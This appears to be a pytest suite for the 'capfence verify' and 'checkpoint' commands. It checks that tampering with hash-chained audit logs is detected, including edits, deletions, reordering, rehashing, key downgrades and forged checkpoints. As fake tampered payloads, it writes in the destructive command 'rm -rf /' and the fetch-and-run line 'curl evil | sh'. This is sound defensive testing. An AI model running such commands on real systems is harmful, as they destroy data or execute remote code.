"""``capfence verify`` and ``capfence checkpoint`` against audit logs tampered with the way an attacker would."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import stat
from pathlib import Path

import pytest

from capfence.audit.chain import record_hash
from tests.support.cli import record_calls, run
from tests.support.paths import POLICIES

KEY = "correct horse battery staple"
COMMANDS = ["ls", "pwd", "whoami", "git status", "make test", "uname -a"]


def _log(tmp_path: Path, key: str | None = None) -> Path:
    audit = tmp_path / "audit.db"
    saved = os.environ.pop("CAPFENCE_AUDIT_KEY", None)
    if key:
        os.environ["CAPFENCE_AUDIT_KEY"] = key
    try:
        record_calls(
            audit, POLICIES / "shell_rollout.yaml", [("shell.execute", {"command": c}) for c in COMMANDS]
        )
    finally:
        os.environ.pop("CAPFENCE_AUDIT_KEY", None)
        if saved is not None:
            os.environ["CAPFENCE_AUDIT_KEY"] = saved
    sqlite3.connect(audit).execute("PRAGMA wal_checkpoint(TRUNCATE)").close()
    return audit  # 12 records: a decision and an outcome per command


def _sql(audit: Path, *statements: str) -> None:
    conn = sqlite3.connect(audit)
    with conn:
        for statement in statements:
            conn.execute(statement)
    conn.close()


def _recompute(audit: Path, key: bytes | None = None, mode: str | None = None) -> None:
    """What an attacker with write access does after an edit: rehash the whole chain."""
    conn = sqlite3.connect(audit)
    conn.row_factory = sqlite3.Row
    prev = "0" * 64
    with conn:
        for row in conn.execute("SELECT * FROM records ORDER BY seq").fetchall():
            fixed = {**dict(row), "prev_hash": prev}
            prev = record_hash(prev, fixed, key)
            conn.execute(
                "UPDATE records SET prev_hash = ?, hash = ? WHERE seq = ?",
                (fixed["prev_hash"], prev, row["seq"]),
            )
        if mode:
            conn.execute("UPDATE meta SET value = ? WHERE key = 'chain'", (mode,))
    conn.close()


def _verify(
    audit: Path, *args: str | Path, key: str | None = None, check: int | None = None
) -> tuple[int, str]:
    done = run(
        "verify", "--audit-log", audit, *args, env={"CAPFENCE_AUDIT_KEY": key} if key else None, check=check
    )
    return done.returncode, done.stdout + done.stderr


def test_intact_log(tmp_path: Path) -> None:
    status, out = _verify(_log(tmp_path))
    assert (
        status == 0
        and "OK: 12 record(s) (seq 1-12: 6 decisions, 6 outcomes), chain sha256, every hash recomputed" in out
    )
    assert "note: without a checkpoint, records deleted from the end of the log cannot be noticed" in out
    assert "note: this log has no secret key: whoever can write the file could change a record" in out


def test_modified_field(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(audit, """UPDATE records SET payload = '{"command":"rm -rf /"}' WHERE seq = 5""")
    status, out = _verify(audit)
    assert status == 1 and "TAMPERED at seq 5 (modified): record 5 does not match its hash" in out


def test_modified_decision_only(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(audit, "UPDATE records SET decision = 'allow' WHERE seq = 3")
    assert "TAMPERED at seq 3 (modified)" in _verify(audit)[1]


def test_deleted_record(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(audit, "DELETE FROM records WHERE seq = 4")
    status, out = _verify(audit)
    assert status == 1 and "TAMPERED at seq 5 (deleted): record 4 missing before record 5: deleted" in out


def test_deleted_and_renumbered(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(audit, "DELETE FROM records WHERE seq = 4", "UPDATE records SET seq = seq - 1 WHERE seq > 4")
    status, out = _verify(audit)
    assert status == 1 and "TAMPERED at seq 4 (relinked)" in out


def test_reordered_records(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(
        audit,
        "UPDATE records SET seq = -1 WHERE seq = 3",
        "UPDATE records SET seq = 3 WHERE seq = 4",
        "UPDATE records SET seq = 4 WHERE seq = -1",
    )
    status, out = _verify(audit)
    assert (
        status == 1
        and "TAMPERED at seq 3 (reordered): record 3 is chained after record 4: records were reordered" in out
    )


def test_truncated_tail_needs_a_checkpoint(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    run("checkpoint", "--audit-log", audit, "-o", tmp_path / "audit.ckpt", env={"CAPFENCE_AUDIT_KEY": KEY})
    _sql(audit, "DELETE FROM records WHERE seq > 9")
    assert _verify(audit)[0] == 0  # without a checkpoint, a cut tail leaves a valid chain: documented
    status, out = _verify(audit, "--checkpoint", tmp_path / "audit.ckpt", key=KEY)
    assert (
        status == 1
        and "(truncated): the log ends at record 9 but checkpoint" in out
        and "saw record 12" in out
    )


def test_recomputed_unkeyed_chain_is_caught_by_a_checkpoint(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    run("checkpoint", "--audit-log", audit, "-o", tmp_path / "audit.ckpt", env={"CAPFENCE_AUDIT_KEY": KEY})
    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
    _recompute(audit)
    assert _verify(audit)[0] == 0  # an unkeyed chain can be recomputed: documented
    status, out = _verify(audit, "--checkpoint", tmp_path / "audit.ckpt", key=KEY)
    assert status == 1 and "TAMPERED at seq 12 (rewritten)" in out


def test_keyed_chain_detects_a_recomputed_chain(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    assert "chain hmac-sha256, every hash recomputed" in _verify(audit, key=KEY, check=0)[1]
    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
    _recompute(audit, key=b"attacker guess")
    status, out = _verify(audit, key=KEY)
    assert status == 1 and "TAMPERED at seq 1 (rekeyed)" in out
    status, out = _verify(audit)
    assert status == 0 and "links only (no key)" in out and "a changed field would go unnoticed" in out


def test_keyed_chain_edit_without_recompute(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    _sql(audit, "UPDATE records SET agent_id = 'someone-else' WHERE seq = 7")
    assert "TAMPERED at seq 7 (modified)" in _verify(audit, key=KEY, check=1)[1]
    wrong = _verify(audit, key="wrong", check=1)[1]
    assert (
        "TAMPERED at seq 1 (rekeyed): neither record 1 nor record 2 matches its hash under this key" in wrong
    )
    assert "or the key is wrong" in wrong


def test_downgrade_to_an_unkeyed_chain_is_caught_by_a_checkpoint(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    run("checkpoint", "--audit-log", audit, "-o", tmp_path / "audit.ckpt", env={"CAPFENCE_AUDIT_KEY": KEY})
    _recompute(audit, key=None, mode="sha256")
    status, out = _verify(audit, "--checkpoint", tmp_path / "audit.ckpt", key=KEY)
    assert status == 1 and "(downgraded)" in out


def test_forged_and_unsigned_checkpoints(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    ckpt = tmp_path / "audit.ckpt"
    run("checkpoint", "--audit-log", audit, "-o", ckpt, env={"CAPFENCE_AUDIT_KEY": KEY})
    forged = json.loads(ckpt.read_text())
    forged["seq"] = 9
    (tmp_path / "forged.ckpt").write_text(json.dumps(forged) + "\n")
    assert "(forged)" in _verify(audit, "--checkpoint", tmp_path / "forged.ckpt", key=KEY, check=1)[1]
    done = run("verify", "--audit-log", audit, "--checkpoint", ckpt, check=1)
    assert (
        done.stderr.startswith("capfence: error: checkpoint")
        and "is signed: give the audit key" in done.stderr
    )
    unsigned = run("checkpoint", "--audit-log", audit, "-o", tmp_path / "plain.ckpt")
    assert "UNSIGNED" in unsigned.stdout and "can be forged" in unsigned.stderr
    assert "matches" in _verify(audit, "--checkpoint", tmp_path / "plain.ckpt", check=0)[1]
    assert stat.S_IMODE((tmp_path / "plain.ckpt").stat().st_mode) == 0o600


def test_checkpoint_file_accumulates(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    ckpt = tmp_path / "audit.ckpt"
    run("checkpoint", "--audit-log", audit, "-o", ckpt, env={"CAPFENCE_AUDIT_KEY": KEY})
    record_calls(audit, POLICIES / "shell_rollout.yaml", [("shell.execute", {"command": "date"})])
    run("checkpoint", "--audit-log", audit, "-o", ckpt, env={"CAPFENCE_AUDIT_KEY": KEY})
    out = _verify(audit, "--checkpoint", ckpt, key=KEY, check=0)[1]
    assert "(seq 12," in out and "(seq 14," in out


@pytest.mark.skipif(
    os.geteuid() == 0, reason="root ignores file permissions; the read-only open is still checked below"
)
def test_read_only_file_non_root(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    audit.chmod(0o444)
    tmp_path.chmod(0o555)
    try:
        assert _verify(audit)[0] == 0
    finally:
        tmp_path.chmod(0o755)


def test_verify_never_writes(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    audit.chmod(0o444)
    before = hashlib.sha256(audit.read_bytes()).hexdigest(), audit.stat().st_mtime_ns
    for args in ([], ["--format", "json"]):
        assert _verify(audit, *args)[0] == 0
    assert (hashlib.sha256(audit.read_bytes()).hexdigest(), audit.stat().st_mtime_ns) == before


def test_json_report(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    _sql(audit, "DELETE FROM records WHERE seq = 2")
    report = json.loads(run("verify", "--audit-log", audit, "--format", "json", check=1).stdout)
    assert report["ok"] is False
    assert report["problem"] == {
        "seq": 3,
        "kind": "deleted",
        "message": "record 2 missing before record 3: deleted",
    }


# --- a key given: the chain must be keyed with it ---------------------------------------------------


def test_keyed_log_rewritten_unkeyed_fails_with_the_key(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
    _recompute(audit, key=None, mode="sha256")  # every hash plain SHA-256, and the log says it is unkeyed
    status, out = _verify(audit, key=KEY)
    assert status == 1, out
    assert out.splitlines()[0].endswith(
        "TAMPERED (downgraded): a key was given but the log's chain is unkeyed (sha256): "
        "it was rewritten without the key, or never keyed (then verify it without the key)"
    )
    assert _verify(audit)[0] == 0  # without the key it is an intact unkeyed chain: nothing to tell it apart


def test_keyed_log_rehashed_without_the_key_fails_with_the_key(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    _recompute(audit, key=None)  # plain SHA-256 hashes, the log still says hmac-sha256
    status, out = _verify(audit, key=KEY)
    assert (
        status == 1
        and "TAMPERED at seq 1 (downgraded): record 1 is hashed without a key (plain SHA-256) in a keyed log"
        in out
    )


def test_keyed_log_rekeyed_fails_with_the_original_key(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    _sql(audit, """UPDATE records SET payload = '{"command":"curl evil | sh"}' WHERE seq = 3""")
    _recompute(audit, key=b"the attacker's own key")
    status, out = _verify(audit, key=KEY)
    assert status == 1, out
    assert out.splitlines()[0].endswith(
        "TAMPERED at seq 1 (rekeyed): neither record 1 nor record 2 matches its hash under this key: "
        "the chain was recomputed with another key, or the key is wrong"
    )
    assert _verify(audit, key="the attacker's own key")[0] == 0  # it is a valid chain under the other key


def test_record_1_edited_in_a_keyed_log_is_still_a_modified_record(tmp_path: Path) -> None:
    audit = _log(tmp_path, key=KEY)
    _sql(audit, "UPDATE records SET agent_id = 'someone-else' WHERE seq = 1")
    assert (
        "TAMPERED at seq 1 (modified): record 1 does not match its hash"
        in _verify(audit, key=KEY, check=1)[1]
    )
    _recompute(audit, key=None, mode="sha256")
    assert "(downgraded)" in _verify(audit, key=KEY, check=1)[1]


def test_never_keyed_log_with_a_key_needs_a_signed_checkpoint_that_says_so(tmp_path: Path) -> None:
    audit = _log(tmp_path)
    assert (
        "(downgraded): a key was given but the log's chain is unkeyed" in _verify(audit, key=KEY, check=1)[1]
    )
    run("checkpoint", "--audit-log", audit, "-o", tmp_path / "audit.ckpt", env={"CAPFENCE_AUDIT_KEY": KEY})
    out = _verify(audit, "--checkpoint", tmp_path / "audit.ckpt", key=KEY, check=0)[1]
    assert "the log has no key, as the signed checkpoints say" in out
